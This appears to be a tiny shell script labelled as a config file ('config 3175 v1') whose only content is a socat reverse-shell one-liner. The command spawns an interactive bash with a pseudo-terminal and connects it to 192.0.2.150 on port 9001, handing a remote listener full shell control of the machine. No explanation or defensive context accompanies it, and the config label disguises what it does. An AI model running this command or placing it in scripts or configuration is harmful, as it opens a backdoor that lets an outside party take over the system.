# config 3175 v1
#!/bin/sh
socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:192.0.2.150:9001
